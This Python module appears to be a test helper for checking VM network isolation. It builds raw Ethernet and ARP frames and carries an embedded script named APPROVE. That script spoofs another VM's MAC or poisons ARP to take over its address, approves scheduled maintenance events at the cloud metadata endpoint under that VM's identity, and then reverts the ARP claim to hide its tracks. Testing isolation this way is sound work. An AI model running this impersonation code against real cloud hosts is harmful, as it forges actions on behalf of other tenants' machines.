"""Frames as a VM may make them up, down to the last byte; and how a host sends them."""

import socket
import struct
import sys

ARP, IP, VLAN, SERVICE = 0x0806, 0x0800, 0x8100, 0x88A8
REQUEST, REPLY = 1, 2
# Kept for experiments: nobody answers it.
NO_PROTOCOL = 253
EVERYBODY = "ff:ff:ff:ff:ff:ff"
# What switches say to one another, and no switch passes on.
OTHER_SWITCHES = "01:80:c2:00:00:0e"
SEND = """
import socket, sys
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
for frame in sys.argv[1:]:
    wire.send(bytes.fromhex(frame))
"""


def frame(source, target, kind, body, tags=()):
    """One frame; a tag is its type and its number."""
    header = _mac(target) + _mac(source)
    header += b"".join(struct.pack("!HH", *tag) for tag in tags)
    return header + struct.pack("!H", kind) + body


def arp(operation, sender, target):
    """What is asked or answered; of both there is a hardware address and an address."""
    words = struct.pack("!HHBBH", 1, IP, 6, 4, operation)
    for mac, address in (sender, target):
        words += _mac(mac) + socket.inet_aton(address)
    return words


def packet(source, target):
    """Of version 4, with nothing in it."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    words = struct.pack("!BBHHHBB", 0x45, 0, 20, 0, 0, 64, NO_PROTOCOL)
    total = sum(struct.unpack("!9H", words + ends))
    check = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return words + struct.pack("!H", check) + ends


def send(node, letter, *frames):
    """Let a host send them, one after the other."""
    node.on(letter, [sys.executable, "-c", SEND, *(one.hex() for one in frames)])


def _mac(text):
    return bytes.fromhex(text.replace(":", ""))


# Approves an event at the endpoint from another's address, as a program of the liar's own: three
# ways to be where answers go until the request is there, and to have been nowhere a moment later.
#   hardware   it takes the other's hardware, and has the other speak
#   patient    the same, but its turn comes much later: behind a request that is held
#   address    it says that the other's address is at its own hardware, and then takes that back
APPROVE = """
import json, random, socket, struct, sys, time
way, event, liars, others, node, address, own, asked = sys.argv[1:]
LIAR, OTHER, NODE = (bytes.fromhex(one.replace(":", "")) for one in (liars, others, node))
PORT = random.randint(20000, 60000)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 0))
wire.settimeout(1)

def sum_of(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def tcp(source, number, acknowledged, flags, data=b""):
    ends = socket.inet_aton(address) + socket.inet_aton(asked)
    head = struct.pack("!HHIIBBHHH", PORT, 80, number, acknowledged, 0x50, flags, 65000, 0, 0)
    check = sum_of(ends + struct.pack("!BBH", 0, 6, len(head) + len(data)) + head + data)
    head = head[:16] + struct.pack("!H", check) + head[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(data), 7, 0x4000, 64, 6, 0) + ends
    ip = ip[:10] + struct.pack("!H", sum_of(ip)) + ip[12:]
    return NODE + source + b"\\x08\\x00" + ip + head + data

def arp(to, operation, sender, at, target, about):
    words = struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation)
    return to + LIAR + words + sender + socket.inet_aton(at) + target + socket.inet_aton(about)

speak = arp(b"\\xff" * 6, 1, LIAR, own, bytes(6), address)
def claim(mac):
    return arp(b"\\xff" * 6, 2, mac, address, mac, address)

source = LIAR if way == "address" else OTHER
if way == "address":
    wire.send(claim(LIAR))
    time.sleep(1.2)
wire.send(tcp(source, 1000, 0, 2))
while True:
    frame = wire.recv(2000)
    if frame[12:14] == b"\\x08\\x00" and frame[36:38] == struct.pack("!H", PORT):
        break
(theirs,) = struct.unpack("!I", frame[38:42])
body = json.dumps({"StartRequests": [{"EventId": event}]})
request = "POST /metadata/scheduledevents?api-version=2020-07-01 HTTP/1.1\\r\\n"
request += f"Host: x\\r\\nMetadata: true\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}"
if way == "patient":
    held = "GET /metadata/scheduledevents?api-version=2020-07-01 HTTP/1.1\\r\\nHost: x\\r\\n"
    request = f"{held}Metadata: true\\r\\nIf-None-Match: *\\r\\nPrefer: wait=2\\r\\n\\r\\n{request}"
post = tcp(source, 1001, theirs + 1, 0x18, request.encode())
wire.send(tcp(source, 1001, theirs + 1, 0x10))
wire.send(post)
wire.send(claim(OTHER) if way == "address" else speak)
time.sleep(2.5 * (way == "patient"))
print("sent")
"""
